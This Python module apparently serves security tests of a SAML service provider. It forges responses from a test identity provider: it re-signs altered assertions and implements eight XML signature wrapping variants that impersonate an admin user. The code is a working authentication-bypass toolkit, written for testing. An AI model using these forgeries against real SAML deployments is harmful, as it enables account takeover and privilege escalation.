"""Crafting hostile SAML responses from real ones the test IdP issued.

Signing is done by the libraries (python3-saml's ``add_sign`` on xmlsec), with
the IdP's own key where the attack needs a validly signed but wrong assertion,
or with another key.  The XML signature wrapping variants follow the catalogue
of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012).
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as C
from onelogin.saml2.utils import OneLogin_Saml2_Utils

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
UPN = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"
GROUP = "http://schemas.xmlsoap.org/claims/Group"

Element: TypeAlias = Any  # lxml's _Element (lxml ships no type hints)


def parse(xml: bytes) -> Element:
    return etree.fromstring(xml)  # our own IdP's output


def dump(root: Element) -> bytes:
    return bytes(etree.tostring(root))


def assertion_of(root: Element) -> Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None
    return found


def signature_of(element: Element) -> Element | None:
    return element.find("ds:Signature", NS)


def strip_signature(element: Element) -> Element:
    sig = signature_of(element)
    if sig is not None:
        element.remove(sig)
    return element


def saml_time(offset: float) -> str:
    when = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=offset)
    return when.strftime("%Y-%m-%dT%H:%M:%SZ")


def sign(
    element: Element,
    key: Path,
    cert: Path,
    *,
    sha1: bool = False,
) -> Element:
    """``element`` (a Response or an Assertion) signed enveloped with ``key``."""
    signed = OneLogin_Saml2_Utils.add_sign(
        etree.tostring(element),
        key.read_text(),
        cert.read_text(),
        sign_algorithm=C.RSA_SHA1 if sha1 else C.RSA_SHA256,
        digest_algorithm=C.SHA1 if sha1 else C.SHA256,
    )
    return etree.fromstring(signed)


def resign_assertion(
    xml: bytes,
    key: Path,
    cert: Path,
    mutate: Callable[[Element, Element], None],
    *,
    sha1: bool = False,
) -> bytes:
    """Strip the assertion's signature, let ``mutate(response, assertion)``
    change anything, and sign the assertion again."""
    root = parse(xml)
    strip_signature(root)  # a response signature would no longer hold
    assertion = strip_signature(assertion_of(root))
    mutate(root, assertion)
    root.replace(assertion, sign(assertion, key, cert, sha1=sha1))
    return dump(root)


def set_subject(assertion: Element, upn: str, groups: tuple[str, ...] = ()) -> None:
    """Make the assertion speak of someone else (what an attacker wants)."""
    name_id = assertion.find("saml:Subject/saml:NameID", NS)
    assert name_id is not None
    name_id.text = upn
    for attribute in assertion.iterfind("saml:AttributeStatement/saml:Attribute", NS):
        values = attribute.findall("saml:AttributeValue", NS)
        if attribute.get("Name") == UPN:
            values[0].text = upn
        if attribute.get("Name") == GROUP and groups:
            values[0].text = groups[0]


def _evil_copy(assertion: Element, new_id: str = "_evil") -> Element:
    evil = copy.deepcopy(assertion)
    strip_signature(evil)
    evil.set("ID", new_id)
    set_subject(evil, "bob@corp.test", ("Intercom-Admins",))
    return evil


def xsw(variant: int, xml: bytes) -> bytes:
    """The signature wrapping attack ``variant`` (1-8) applied to a validly
    signed response: the signed original stays somewhere in the document, an
    unsigned assertion for an admin is where a careless SP looks."""
    root = parse(xml)
    if variant in (1, 2):
        # the Response is signed: the attacker builds a new Response around an
        # evil assertion and hides the signed original next to the signature
        original = copy.deepcopy(root)
        signature = signature_of(root)
        assert signature is not None, "XSW1/2 need a signed Response"
        evil_root = copy.deepcopy(root)
        evil_root.set("ID", "_evil_response")
        strip_signature(evil_root)
        old = assertion_of(evil_root)
        evil_root.replace(old, _evil_copy(old))
        new_sig = copy.deepcopy(signature)
        wrapped = strip_signature(original)
        if variant == 1:
            new_sig.append(wrapped)  # original Response inside the Signature
            evil_root.insert(1, new_sig)
        else:
            evil_root.insert(1, new_sig)
            evil_root.insert(1, wrapped)  # original Response detached before it
        return dump(evil_root)
    assertion = assertion_of(root)
    evil = _evil_copy(assertion)
    index = list(root).index(assertion)
    if variant == 3:  # evil assertion first, signed original after it
        root.insert(index, evil)
    elif variant == 4:  # signed original wrapped inside the evil assertion
        root.replace(assertion, evil)
        evil.append(assertion)
    elif variant == 5:
        # the signature moves into the evil assertion (which takes the original
        # ID); an unsigned copy of the original is appended at the end
        sig = signature_of(assertion)
        assert sig is not None
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, copy.deepcopy(sig))
        original = strip_signature(copy.deepcopy(assertion))
        root.replace(assertion, evil)
        root.append(original)
    elif variant == 6:
        # like 5, with the original copy hidden inside the moved signature
        sig = signature_of(assertion)
        assert sig is not None
        moved = copy.deepcopy(sig)
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, moved)
        moved.append(strip_signature(copy.deepcopy(assertion)))
        root.replace(assertion, evil)
    elif variant == 7:
        # the signed original inside an Extensions element, evil assertion after
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        root.replace(assertion, extensions)
        extensions.append(assertion)
        root.append(evil)
    elif variant == 8:
        # evil assertion carrying the signature, the original (unsigned) inside
        # a ds:Object of that signature
        sig = signature_of(assertion)
        assert sig is not None
        moved = copy.deepcopy(sig)
        evil.set("ID", assertion.get("ID", ""))
        evil.insert(1, moved)
        obj = etree.SubElement(moved, f"{{{DS}}}Object")
        obj.append(strip_signature(copy.deepcopy(assertion)))
        root.replace(assertion, evil)
    else:
        raise ValueError(variant)
    return dump(root)
